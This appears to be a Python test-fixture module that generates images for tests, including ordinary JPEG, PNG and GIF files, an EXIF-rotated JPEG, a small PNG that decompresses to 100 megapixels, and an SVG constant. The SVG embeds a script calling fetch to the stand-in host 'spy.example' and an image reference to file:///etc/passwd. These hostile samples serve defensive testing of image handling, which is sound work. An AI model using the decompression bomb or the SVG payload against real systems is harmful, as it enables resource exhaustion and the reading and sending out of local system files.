"""Picture files made for tests, good and bad."""

from __future__ import annotations

import io
import struct
import zlib
from functools import cache

from PIL import Image

RED, BLUE = (200, 30, 30), (20, 60, 200)


def picture(width: int = 300, height: int = 200, kind: str = "JPEG", mode: str = "RGB", **options: object) -> bytes:
    """A picture, red above and blue below."""
    image = Image.new("RGB", (width, height), RED)
    image.paste(BLUE, (0, height // 2, width, height))
    out = io.BytesIO()
    image.convert(mode).save(out, kind, **options)  # type: ignore[arg-type]
    return out.getvalue()


def clear_picture() -> bytes:
    """A PNG of which nothing can be seen but its paper."""
    out = io.BytesIO()
    Image.new("RGBA", (60, 40), (0, 0, 0, 0)).save(out, "PNG")
    return out.getvalue()


def animated() -> bytes:
    """A GIF whose first frame is red and whose second is blue."""
    out = io.BytesIO()
    first, second = Image.new("P", (80, 60)), Image.new("P", (80, 60))
    for image, colour in ((first, RED), (second, BLUE)):
        image.putpalette([*colour, *([0] * 765)])
    first.save(out, "GIF", save_all=True, append_images=[second], duration=100, loop=0)
    return out.getvalue()


def turned() -> bytes:
    """A JPEG that lies on its side and says so, as telephones write them."""
    exif = Image.Exif()
    exif[0x0112] = 6
    return picture(300, 200, exif=exif)


@cache
def huge_png(width: int = 10_000, height: int = 10_000) -> bytes:
    """A PNG of a few kilobytes that says it has 100 megapixels, and would have them."""

    def chunk(name: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    rows = zlib.compressobj(9)
    data = b"".join([rows.compress(b"\0" * (width + 1)) for _row in range(height)]) + rows.flush()
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


SVG = b"""<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="400" height="300">
<script>fetch("https://spy.example/")</script><image href="file:///etc/passwd"/></svg>"""
